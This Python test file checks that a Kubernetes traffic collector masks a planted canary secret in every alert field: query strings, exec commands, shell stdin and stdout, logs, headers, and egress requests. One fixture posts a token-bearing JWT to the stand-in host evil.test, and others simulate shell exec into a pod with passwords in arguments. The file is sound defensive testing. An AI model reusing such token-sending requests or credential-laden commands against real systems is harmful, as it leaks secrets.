"""A secret in every place that a rule's words can tell of: in no alert it is, and without masking it would be in each."""

import json
from pathlib import Path

import pytest
from support.leaks import leaks_in
from support.made_captures import IN, OUT, POD, Talk, capture, frame, websocket
from support.talks import answered, asked, chunked

from chaperone.collector.cli import rules as command
from chaperone.collector.cli.rules import capture_events
from chaperone.collector.enforce.alert import alerts_of, document
from chaperone.collector.enforce.message import Entry, Kind, Message
from chaperone.collector.enforce.slack import payload
from chaperone.collector.mask.reveal import Revealer
from chaperone.collector.rules.document import Rule, policies
from chaperone.collector.rules.evaluate import evaluate
from chaperone.collector.rules.judged import Judged
from chaperone.collector.rules.memory import Memory
from chaperone.collector.rules.verdict import Moment
from chaperone.collector.rules.words import WORDS

CANARY = "Canary7c2e91s3cr3tQ8"
JWT = f"eyJhbGciOiJSUzI1NiIsImtpZCI6IkEifQ.eyJzdWIiOiJ{CANARY}In0.c2lnbmF0dXJlLXNpZ25hdHVyZQ"
SUBJECTS = {"call": Moment.END, "channel": Moment.CHANNEL, "egress": Moment.REQUEST}
STATUS = json.dumps({"kind": "Status", "apiVersion": "v1", "status": "Failure", "message": f"bad: password={CANARY}", "code": 400})
EXEC = websocket(f"{POD}/exec?command=sh&stdin=true&stdout=true", "v5.channel.k8s.io")
PLACES: dict[str, Talk] = {
    "query": [(OUT, asked("GET", f"/api/v1/pods?token={CANARY}")), (IN, answered(200, b"{}"))],
    "command": websocket(f"{POD}/exec?command=mysql&command=--password%3D{CANARY}&stdout=true", "v5.channel.k8s.io"),
    "stdin": [*EXEC, frame(OUT, b"\x00" + f"export DB_PASSWORD={CANARY}\n".encode()), frame(IN, b"\x01ok\n"), frame(IN, b"", 8)],
    "stdout": [*EXEC, frame(IN, b"\x01" + f"DB_PASSWORD={CANARY}\n".encode()), frame(IN, b"", 8)],
    "status": [(OUT, asked("GET", "/api/v1/pods")), (IN, answered(400, STATUS.encode()))],
    "log": [
        (OUT, asked("GET", f"{POD}/log?follow=true")),
        *((IN, part) for part in chunked(200, [f"password={CANARY}\n".encode()], "text/plain")),
    ],
    "agent": [(OUT, asked("GET", "/api/v1/pods", User_Agent=f"x password={CANARY}")), (IN, answered(200, b"{}"))],
    "elsewhere": [(OUT, asked("POST", f"/hook/{JWT}").replace(b"10.0.0.1:6443", b"evil.test")), (IN, answered(200, b"ok", "text/plain"))],
}


def talkative() -> tuple[Rule, ...]:
    """For each kind of event a rule that always matches and tells all words."""
    rules = []
    for subject, moment in SUBJECTS.items():
        known = [name for name, word in WORDS.items() if word.type != "dyn" and word.moment <= moment]
        said = " ".join(f"{{{name}}}" for name in known if name.partition(".")[0] in (subject, "call", "process", "session"))
        asked_for = " || ".join(f"{name} == {name}" for name in known if name.startswith(f"{subject}."))
        rules.append(f"- {json.dumps({'name': subject, 'when': asked_for, 'do': 'alert', 'message': said})}")
    head = "apiVersion: chaperone.dev/v1\nkind: Policy\nmetadata: {name: all}\nrules:\n"
    [policy] = policies(head + "\n".join(rules), "all.yaml")
    return policy.rules


RULES = talkative()


def told(path: Path) -> bytes:
    """All that is sent about a capture, in each form."""
    texts = []
    for event in capture_events(path):
        verdicts, _ = evaluate(RULES, Memory(), event)
        for alert in alerts_of(Judged(event, verdicts, "", 0, 0, event.document["process"])):
            last = {"time": alert.time, "message": alert.message, "call": alert.call}
            message = Message(alert.id, Kind.FIRST, (Entry(document(alert), 1, 0, last),))
            texts.append(json.dumps([message.document(), payload(message)], ensure_ascii=False))
    return "\n".join(texts).encode(errors="replace")


@pytest.mark.parametrize("place", PLACES)
def test_no_alert_tells_a_secret_that_words_could_tell(place: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    capture(tmp_path, PLACES[place])
    sent = told(tmp_path / "made.jsonl.gz")
    assert b"~masked-" in sent and leaks_in(sent, CANARY.encode()) == []
    monkeypatch.setattr(command, "Masker", lambda key: Revealer())
    assert leaks_in(told(tmp_path / "made.jsonl.gz"), CANARY.encode())
